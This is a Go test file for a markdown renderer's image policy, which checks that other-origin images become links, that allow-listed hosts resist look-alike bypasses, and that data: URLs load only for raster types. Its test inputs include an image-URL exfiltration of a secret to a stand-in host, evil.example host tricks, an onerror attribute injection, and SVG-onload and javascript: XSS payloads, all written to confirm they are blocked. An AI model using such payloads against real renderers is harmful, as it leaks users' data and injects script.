package markdown

import (
	"strings"
	"testing"
)

// An image from another origin is not loaded: it becomes a link showing its alt text and host
// (plain text when it already sits in a link), so a model's ![x](https://elsewhere/?q=secret)
// sends nothing anywhere until someone clicks it.
func TestOtherOriginImagesBecomeLinksNamingTheirHost(t *testing.T) {
	for _, tc := range []struct{ src, href, text string }{
		{"![secret](https://elsewhere.example/?q=secret)", "https://elsewhere.example/?q=secret", "secret · elsewhere.example"},
		{"![](http://elsewhere.example/p.png)", "http://elsewhere.example/p.png", "image · elsewhere.example"},
		{"![x](//elsewhere.example/p.png)", "//elsewhere.example/p.png", "x · elsewhere.example"},
		{"![x](HTTPS://ELSEWHERE.example:8443/p.png)", "https://ELSEWHERE.example:8443/p.png", "x · elsewhere.example"},
		{"![x][r]\n\n[r]: https://elsewhere.example/r.png", "https://elsewhere.example/r.png", "x · elsewhere.example"},
		{"![a *b*](https://elsewhere.example/p.png)", "https://elsewhere.example/p.png", "a b · elsewhere.example"},
	} {
		out := Render(tc.src)
		doc := parseHTML(t, out)
		a := doc.Find("a.image-link")
		if doc.Find("img").Length() != 0 || a.Length() != 1 || a.AttrOr("href", "") != tc.href || a.Text() != tc.text ||
			a.AttrOr("rel", "") != "nofollow noopener" {
			t.Errorf("%q: %s", tc.src, out)
		}
	}
	out := Render("[![inner](https://elsewhere.example/i.png)](https://link.example)")
	doc := parseHTML(t, out)
	if doc.Find("img").Length() != 0 || doc.Find("a").Length() != 1 || doc.Find("a span.image-link").Text() != "inner · elsewhere.example" {
		t.Errorf("an image inside a link: %s", out)
	}
}

// Our own origin's images load; so do images of the hosts on the allow-list (PARLEY_IMAGE_HOSTS),
// matched by host name or host:port, never by a look-alike (userinfo, a suffix).
func TestImageHostsOnTheAllowListLoad(t *testing.T) {
	AllowImageHosts([]string{"images.example.com", "cdn.example.org:8443"})
	t.Cleanup(func() { AllowImageHosts(nil) })
	for src, load := range map[string]bool{
		"![x](/static/img/a.png)":                             true,
		"![x](a.png)":                                         true,
		"![x](https://images.example.com/a.png)":              true,
		"![x](http://IMAGES.example.com/a.png?w=2)":           true,
		"![x](https://cdn.example.org:8443/a.png)":            true,
		"![x](https://cdn.example.org/a.png)":                 false,
		"![x](https://images.example.com.evil.example/a.png)": false,
		"![x](https://images.example.com@evil.example/a.png)": false,
		"![x](https://evil.example/images.example.com/a.png)": false,
		"![x](//evil.example/a.png)":                          false,
		"![x](/\\evil.example/a.png)":                         true,  // escaped to /%5Cevil…: a path here
		"<img src=\"https://images.example.com/raw.png\">":    false, // raw HTML keeps no markup
		"![x](https://images.example.com/a.png\"onerror=\"x)": true,
	} {
		out := Render(src)
		img := parseHTML(t, out).Find("img")
		if (img.Length() == 1) != load {
			t.Errorf("%q: loads=%v: %s", src, img.Length() == 1, out)
		}
		if s := img.AttrOr("src", ""); load && (strings.Contains(s, "evil.example/") && !strings.Contains(s, "%5C") || img.AttrOr("onerror", "") != "") {
			t.Errorf("%q: src %q", src, s)
		}
	}
	AllowImageHosts(nil)
	if out := Render("![x](https://images.example.com/a.png)"); strings.Contains(out, "<img") {
		t.Errorf("an emptied list still loads: %s", out)
	}
}

// data: images are shown only for raster types; SVG and anything else keep the alt text alone, and a
// data: URL is never a link.
func TestDataImagesOnlyForRasterTypes(t *testing.T) {
	for src, load := range map[string]bool{
		"![x](data:image/png;base64,iVBORw0KGgo=)":             true,
		"![x](data:image/jpeg;base64,/9j/4AAQ)":                true,
		"![x](data:image/gif;base64,R0lGODlh)":                 true,
		"![x](data:image/webp;base64,UklGRg==)":                true,
		"![x](DATA:IMAGE/PNG;base64,iVBORw0KGgo=)":             true,
		"![x](data:image/svg+xml;base64,PHN2Zz4=)":             false,
		"![x](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)": false,
		"![x](data:text/html;base64,PHNjcmlwdD4=)":             false,
		"![x](data:,hello)":                                    false,
		"![x](javascript:alert(1))":                            false,
	} {
		out := Render(src)
		doc := parseHTML(t, out)
		if (doc.Find("img").Length() == 1) != load || doc.Find("a").Length() != 0 || !load && !strings.Contains(doc.Text(), "x") {
			t.Errorf("%q: %s", src, out)
		}
	}
	if out := Render("[x](data:image/png;base64,iVBORw0KGgo=)"); strings.Contains(out, "href") {
		t.Errorf("a data: link: %s", out)
	}
}
